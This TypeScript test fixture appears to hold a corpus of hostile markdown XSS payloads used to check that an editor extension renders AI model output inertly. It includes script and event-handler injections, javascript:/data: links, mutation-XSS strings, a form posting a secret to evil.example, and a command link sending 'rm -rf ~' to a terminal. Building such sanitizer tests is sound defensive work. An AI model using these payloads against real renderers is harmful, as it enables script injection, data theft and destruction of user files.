// Hostile "model output" for the XSS corpus. `$X` stands for a call that proves execution
// (`__xss(<payload number>)`); other payloads set window.__pwned, call alert(), or try to load
// something from evil.example or the page's own server (any request is a failure).
// Sources: the OWASP XSS filter evasion cheat sheet, the PortSwigger XSS cheat sheet, DOMPurify's
// mutation-XSS regression tests, and markdown-specific tricks (link/image/reference syntax).

export interface Payload {
  readonly name: string;
  readonly markdown: string;
}

const EVIL = 'https://evil.example';
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

const raw: [string, string][] = [
  // Script tags
  ['script tag', '<script>$X</script>'],
  ['script tag in a paragraph', 'Hello <script>$X</script> world'],
  ['script src remote', `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`],
  ['script src data:', '<script src="data:text/javascript,$X"></script>'],
  ['split script tag', '<scr<script>ipt>$X</scr</script>ipt>'],
  ['module script', '<script type="module">$X</script>'],
  ['nested angle script', '<<script>script>$X<</script>/script>'],
  ['script in svg', '<svg><script>$X</script></svg>'],
  ['script with newline in tag', '<script\n>$X</script\n>'],
  ['script after markdown list', '- item\n- <script>$X</script>\n- item'],
  ['script sets __pwned', '<script>window.__pwned = "script"</script>'],
  ['script in blockquote', '> quote <script>$X</script>'],

  // Event handlers
  ['img onerror', '<img src=x onerror=$X>'],
  ['img onerror uppercase', '<IMG SRC=x ONERROR="$X">'],
  ['img slash separators', '<img/src/onerror=$X>'],
  ['img backtick attribute', '<img src=`x` onerror=$X>'],
  ['img onerror entity-encoded', '<img src=x onerror="&#95;&#95;xss(16)">'],
  ['img onerror eval atob', '<img src=x:x onerror=eval(atob("X194c3MoMTcp"))>'],
  ['data image with onload', `<img src="data:image/png;base64,${PNG}" onload="$X">`],
  ['svg onload', '<svg onload=$X>'],
  ['svg slash onload', '<svg/onload=$X>'],
  ['body onload', '<body onload=$X>'],
  ['body onpageshow', '<body onpageshow=$X>'],
  ['input autofocus onfocus', '<input autofocus onfocus=$X>'],
  ['select autofocus onfocus', '<select autofocus onfocus=$X></select>'],
  ['textarea autofocus onfocus', '<textarea autofocus onfocus=$X></textarea>'],
  ['details ontoggle', '<details open ontoggle=$X><summary>s</summary>x</details>'],
  ['video source onerror', '<video><source onerror=$X></video>'],
  ['audio onerror', '<audio src=x onerror=$X></audio>'],
  ['marquee onstart', '<marquee onstart=$X>x</marquee>'],
  ['div onmouseover', '<div onmouseover=$X>hover me</div>'],
  ['paragraph onclick', '<p onclick=$X>click me</p>'],
  ['anchor onclick with safe href', '<a href="https://ok.example" onclick="$X">click</a>'],
  ['button onclick', '<button onclick=$X>press</button>'],
  ['unknown element onclick', '<x onclick=$X>click</x>'],
  ['style onload', '<style onload=$X></style>'],
  ['animation start', '<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart=$X>a</div>'],
  ['onpointerenter span', '<span onpointerenter=$X>point</span>'],
  ['iframe onload', '<iframe onload=$X></iframe>'],
  ['object onerror', '<object data=x onerror=$X></object>'],
  ['image element onerror', '<image src=x onerror=$X>'],
  ['onerror in markdown image title', '![x](x "a\\" onerror=\\"$X")'],
  ['frameset onload', '<frameset onload=$X>'],
  ['keygen autofocus', '<keygen autofocus onfocus=$X>'],
  ['img in table cell', '| a |\n|---|\n| <img src=x onerror=$X> |'],
  ['img in heading', '# Title <img src=x onerror=$X>'],
  ['img inside emphasis', '*<img src=x onerror=$X>*'],

  // Link schemes
  ['javascript: link', '[click](javascript:$X)'],
  ['JavaScript: mixed case', '[click](JaVaScRiPt:$X)'],
  ['javascript: entity colon', '[click](javascript&#58;$X)'],
  ['javascript: entity j', '[click](&#x6A;avascript:$X)'],
  [
    'javascript: all decimal entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$X">click</a>',
  ],
  ['javascript: padded entities', '<a href="&#0000106&#0000097vascript:$X">click</a>'],
  ['javascript: &colon;', '<a href="javascript&colon;$X">click</a>'],
  ['javascript: tab inside', '<a href="jav&#x09;ascript:$X">click</a>'],
  ['javascript: newline inside', '<a href="jav&#x0A;ascript:$X">click</a>'],
  ['javascript: leading spaces', '<a href="  javascript:$X">click</a>'],
  ['javascript: comment trick', '[click](javascript://%0a$X)'],
  ['javascript: angle-bracket destination', '[click](<javascript:$X>)'],
  ['javascript: with title', '[click](javascript:$X "title")'],
  ['javascript: autolink', '<javascript:$X>'],
  ['javascript: reference link', '[click][x]\n\n[x]: javascript:$X'],
  [
    'javascript: reference before definition, streamed',
    'See [here][r] and [there][R].\n\nSome text.\n\n[r]: javascript:$X "t"\n',
  ],
  ['javascript: percent-encoded scheme', '[click](%6Aavascript:$X)'],
  ['vbscript: link', '[click](vbscript:msgbox(1))'],
  ['data: html link', '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoNjkpPC9zY3JpcHQ+)'],
  ['data: html plain link', '<a href="data:text/html,<script>parent.__xss(70)</script>">click</a>'],
  [
    'command: link (terminal)',
    '[Run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)',
  ],
  ['command: link (set key)', '[Set key](command:unifiedInference.setApiKey)'],
  ['command: raw anchor', '<a href="command:workbench.action.reloadWindow">Reload</a>'],
  ['command: reference link', '[Open][c]\n\n[c]: command:workbench.action.openSettings'],
  ['command: autolink', '<command:workbench.action.quit>'],
  ['vscode: link', '[Install](vscode:extension/evil.extension)'],
  ['vscode-insiders: link', '[Open](vscode-insiders://file/etc/passwd)'],
  ['file: link', '[passwd](file:///etc/passwd)'],
  ['blob: link', '[blob](blob:https://evil.example/uuid)'],
  ['about: and chrome: links', '[a](about:blank) [b](chrome://settings) [c](intent://x#Intent;end)'],
  ['relative link to the page server', '[rel](/secret) [rel2](../up) [frag](#corpus)'],
  ['protocol-relative link', '[evil](//evil.example/path)'],
  ['backslash scheme', '[click](\\javascript:$X)'],
  ['link title breaking out', '[x](https://ok.example "t\\" onmouseover=\\"$X")'],
  ['autolink breaking out', '<https://ok.example/" onmouseover="$X>'],
  ['img as link text', '[<img src=x onerror=$X>](https://ok.example)'],
  ['mailto with script', '[mail](mailto:a@b.example?subject=<script>$X</script>)'],

  // Images
  ['javascript: image', '![x](javascript:$X)'],
  ['remote tracking image', `![x](${EVIL}/track.png)`],
  ['remote image with title', `![pixel](http://evil.example/t.gif "t")`],
  ['protocol-relative image', '![x](//evil.example/t.png)'],
  ['relative image (own server)', '![x](/local.png)'],
  ['reference-style image', `![x][img]\n\n[img]: ${EVIL}/ref.png`],
  [
    'svg data image with script',
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9feHNzKDkwKSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+)',
  ],
  [
    'svg data image plain',
    '<img src="data:image/svg+xml,<svg onload=__xss(91) xmlns=%22http://www.w3.org/2000/svg%22/>">',
  ],
  ['alt text breaking out', '![x" onerror="$X](x)'],
  ['url breaking out', '![x](x" onerror="$X)'],
  ['srcset remote', `<img srcset="${EVIL}/a.png 1x" src="x">`],
  ['picture source', `<picture><source srcset="${EVIL}/p.png"><img src="x"></picture>`],
  ['linked remote image to javascript:', `[![x](${EVIL}/b.png)](javascript:$X)`],
  ['input type image', `<input type="image" src="${EVIL}/i.png">`],
  ['body background', `<body background="${EVIL}/bg.png">`],
  ['table background', `<table background="${EVIL}/t.png"><tr><td>x</td></tr></table>`],
  ['video poster', `<video poster="${EVIL}/p.png"></video>`],
  ['lowsrc and dynsrc', `<img lowsrc="${EVIL}/l.png" dynsrc="${EVIL}/d.png">`],

  // SVG and MathML
  ['svg xlink javascript', '<svg><a xlink:href="javascript:$X"><text x="0" y="20">click</text></a></svg>'],
  ['svg animate onbegin', '<svg><animate onbegin=$X attributeName=x dur=1s>'],
  ['svg set handler', '<svg><set attributeName=onmouseover to=$X></svg>'],
  [
    'svg animate href to javascript',
    '<svg><a><animate attributeName=href values=javascript:$X /><text y=20>click</text></a></svg>',
  ],
  ['svg foreignObject', '<svg><foreignObject><img src=x onerror=$X></foreignObject></svg>'],
  [
    'svg use data',
    '<svg><use href="data:image/svg+xml,<svg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22><image href=%221%22 onerror=%22__xss(109)%22/></svg>#x"/></svg>',
  ],
  ['svg image remote', `<svg><image href="${EVIL}/i.png"/></svg>`],
  ['svg style import', `<svg><style>@import url(${EVIL}/x.css)</style></svg>`],
  ['svg script href', '<svg><script href="data:,__xss(112)"></script></svg>'],
  ['math maction', '<math><maction actiontype="statusline" xlink:href="javascript:$X">click</maction></math>'],
  ['math href', '<math href="javascript:$X">click</math>'],
  ['mathml mi xlink', '<math><mi xlink:href="data:x,<script>$X</script>">x</mi></math>'],

  // Frames, objects, forms, meta, base, link
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__xss(116)</script>"></iframe>'],
  ['iframe javascript src', '<iframe src="javascript:parent.__xss(117)"></iframe>'],
  ['iframe remote', `<iframe src="${EVIL}/frame"></iframe>`],
  ['object javascript data', '<object data="javascript:$X"></object>'],
  ['object html data', '<object data="data:text/html,<script>parent.__xss(120)</script>"></object>'],
  ['embed javascript', '<embed src="javascript:$X">'],
  ['embed remote', `<embed src="${EVIL}/e.swf">`],
  ['object param', '<object><param name=src value=javascript:$X></object>'],
  ['meta refresh javascript', '<meta http-equiv="refresh" content="0;url=javascript:$X">'],
  ['meta refresh remote', `<meta http-equiv="refresh" content="0;url=${EVIL}/">`],
  ['meta csp override', '<meta http-equiv="Content-Security-Policy" content="script-src *">'],
  ['base javascript', '<base href="javascript:$X//">[rel](relative)'],
  ['base remote', `<base href="${EVIL}/">\n\n[rel](rel.html) ![i](i.png)`],
  ['link stylesheet', `<link rel="stylesheet" href="${EVIL}/x.css">`],
  ['link prefetch', `<link rel="prefetch" href="${EVIL}/p">`],
  ['link import', `<link rel="import" href="${EVIL}/i.html">`],
  ['form javascript action', '<form action="javascript:$X"><input type="submit" value="Go"></form>'],
  [
    'form remote action',
    `<form action="${EVIL}/steal" method="post"><input name="q" value="secret"><button>Go</button></form>`,
  ],
  ['button formaction', '<form><button formaction="javascript:$X">Go</button></form>'],
  ['isindex', '<isindex action="javascript:$X" type="image">'],
  ['portal', `<portal src="${EVIL}/portal"></portal>`],
  ['dialog open', '<dialog open><form method="dialog"><button onclick=$X>x</button></form></dialog>'],

  // CSS
  ['style url background', `<p style="background:url(${EVIL}/bg.png)">styled</p>`],
  ['style expression', '<div style="width:expression($X)">x</div>'],
  ['style tag import', `<style>@import '${EVIL}/x.css';</style>`],
  ['style tag url', `<style>body{background:url("${EVIL}/s.png")}</style>`],
  ['style tag font-face', `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}</style><p>x</p>`],
  ['style behavior', '<p style="behavior:url(#default#time2)">x</p>'],
  ['style moz-binding', `<div style="-moz-binding:url(${EVIL}/x.xml#x)">x</div>`],
  ['style list-style-image javascript', '<ul><li style="list-style-image:url(javascript:$X)">x</li></ul>'],
  ['stylesheet data url', `<link rel="stylesheet" href="data:text/css,*{background:url(${EVIL}/d.png)}">`],
  ['style that hides the page', '<style>body{display:none}</style><p style="position:fixed;inset:0">overlay</p>'],

  // HTML inside code
  ['html in a fence', '```html\n<script>$X</script>\n<img src=x onerror=$X>\n```'],
  ['html in inline code', 'Inline `<img src=x onerror=$X>` code'],
  ['html in indented code', 'Text\n\n    <script>$X</script>\n    <img src=x onerror=$X>\n'],
  ['fence breaking out of pre', '```\n</code></pre><img src=x onerror=$X>\n```'],
  ['fence info string handler', '```js onload=$X\nlet a = 1;\n```'],
  ['fence info string quote', '```" onmouseover="$X\nx\n```'],
  ['fence info string tag', '```<img src=x onerror=$X>\ncode\n```'],
  ['svg in a fence', '~~~svg\n<svg onload=$X>\n~~~'],
  ['unclosed fence with html', 'Look:\n\n```html\n<script>$X</script>\n<img src=x onerror=$X>'],
  ['cdata in a fence', '```xml\n<![CDATA[<script>$X</script>]]>\n```'],
  [
    'placeholder forgery',
    '<pre data-md-code="0:0">forged</pre><div class="md-code-block"><button data-md-action="copy">x</button></div>',
  ],

  // Mutation XSS classics
  ['noscript title', '<noscript><p title="</noscript><img src=x onerror=$X>">'],
  ['math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=$X>'],
  [
    'math mglyph style comment',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss(158)&gt;">',
  ],
  ['svg p style', '<svg></p><style><a id="</style><img src=1 onerror=$X>">'],
  ['form math mglyph', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=$X>'],
  ['math mi table style', '<math><mi><table><mi><style><img src=x onerror=$X>'],
  ['svg style title', '<svg><p><style><g title="</style><img src=x onerror=$X>">'],
  ['listing', '<listing>&lt;img src=x onerror=$X&gt;</listing>'],
  ['xmp', '<xmp><img src=x onerror=$X></xmp>'],
  ['textarea', '<textarea><img src=x onerror=$X></textarea>'],
  ['title', '<title><img src=x onerror=$X></title>'],
  ['template', '<template><img src=x onerror=$X></template>'],
  ['comment trick', '<!--><img src=x onerror=$X>-->'],
  ['cdata trick', '<![CDATA[><img src=x onerror=$X>]]>'],
  ['plaintext', '<plaintext><img src=x onerror=$X>'],
  ['iframe inner html', '<iframe><img src=x onerror=$X></iframe>'],
  ['select style', '<select><style></select><img src=x onerror=$X></style>'],
  ['svg style img', '<svg><style><img src=x onerror=$X></style></svg>'],
  ['noembed', '<noembed><img title="</noembed><img src=x onerror=$X>"></noembed>'],
  ['noframes', '<noframes><img title="</noframes><img src=x onerror=$X>"></noframes>'],

  // DOM clobbering and UI spoofing
  [
    'clobber harness',
    '<a id="xssHarness" name="xssHarness" href="https://ok.example">x</a><form name="getElementById"></form>',
  ],
  ['clobber document props', '<img name="body"><img name="cookie"><a id="location" href="https://evil.example">x</a>'],
  [
    'fake code toolbar',
    '<div class="md-code-toolbar"><button class="md-code-button" data-md-action="newFile">New File</button></div>',
  ],
  ['aria and data attributes', '<p aria-hidden="true" data-x="1" role="button" tabindex="0">x</p>'],

  // Obfuscation
  ['unicode escape in handler', '<img src=x onerror=\\u005f_xss(180)>'],
  ['null byte in scheme', '<a href="java\u0000script:$X">x</a>'],
  ['zero-width in scheme', '[x](java\u200bscript:$X)'],
  ['fullwidth brackets', '＜script＞$X＜/script＞'],
  ['html-escaped markup in text', '&lt;img src=x onerror=$X&gt;'],
  ['double-encoded entities', '&amp;lt;script&amp;gt;$X&amp;lt;/script&amp;gt;'],
  ['mixed markdown and html', '**bold <img src=x onerror=$X>** and [link <svg onload=$X>](https://ok.example)'],
  ['html block spanning blocks', '<div>\n\n<img src=x onerror=$X>\n\n</div>'],
  ['alert', '<img src=x onerror=alert(1)>'],
  ['top.__pwned', '<img src=x onerror="top.__pwned=1">'],
  // Hostile markup inside output written to break the renderer (test/harness/hostileMarkdown.ts):
  // past its budgets the renderer shows text instead of markdown, and that text must be as inert.
  ['script past 4,000 nested quotes', `${'> '.repeat(4000)}<script>$X</script><img src=x onerror=$X>`],
  [
    'handler inside 200 nested divs',
    `${'<div>'.repeat(200)}<img src=x onerror=$X><a href="javascript:$X">x</a>${'</div>'.repeat(200)}`,
  ],
  ['handler inside 3,000 emphasis delimiters', `${'*'.repeat(3000)}<img src=x onerror=$X>${'*'.repeat(3000)}`],
  ['handlers in delimiter soup', '**b |<img src=x onerror=$X> [x](javascript:$X) '.repeat(150)],
  [
    'handlers in a table past the redraw limit',
    `| a | b |\n|---|---|\n${Array.from({ length: 260 }, (_, row) => `| <img src=x onerror=$X> | [r${row}](javascript:$X) |`).join('\n')}\n\nafter`,
  ],
  [
    'script in a fence past the tail limit',
    `\`\`\`html\n${'<script>$X</script><img src=x onerror=$X>\n'.repeat(300)}\`\`\`\n\nafter`,
  ],
  // A paragraph over 4 KB is rendered in parts (GrowingParagraph): the same policies must hold there.
  [
    'long paragraph of hostile links and images',
    Array.from(
      { length: 32 },
      (_, line) =>
        `line ${line} [run](javascript:$X) ![p](${EVIL}/p${line}.png) [c](command:workbench.action.reloadWindow) *em* \`<img src=x onerror=$X>\``,
    ).join('\n'),
  ],
];

/** The corpus, with `$X` turned into a call that names the payload. */
export const payloads: readonly Payload[] = raw.map(([name, markdown], index) => ({
  name,
  markdown: markdown.replaceAll('$X', `__xss(${index})`),
}));

/** One reply mixing ordinary markdown with hostile bits, for the screenshot. */
export const showcase = `## Rendering untrusted output

Here is the fix you asked for, plus a few things a hostile model might try:

- a script tag: <script>__xss('showcase')</script> (removed)
- an event handler: <img src=x onerror="__xss('showcase')"> (shown as text, never loaded)
- a [command link](command:workbench.action.terminal.new) and a [javascript: link](javascript:__xss('showcase')), both plain text
- a [normal link](https://example.com/docs) that opens through the extension
- a tracking pixel: ![pixel](https://evil.example/track.png)

| Payload | Result |
|:--|:--|
| \`<svg onload=...>\` | <svg onload="__xss('showcase')"></svg>removed |
| \`<iframe srcdoc>\` | <iframe srcdoc="<script>parent.__xss('showcase')</script>"></iframe>removed |

> Quoted <b onmouseover="__xss('showcase')">bold</b> text.

\`\`\`ts
// HTML inside a fence is only text:
const html = '<img src=x onerror="__xss(1)">';
export function render(markdown: string): DocumentFragment {
  return renderMarkdown(markdown, document);
}
\`\`\`

- [x] sanitized
- [ ] executed
`;
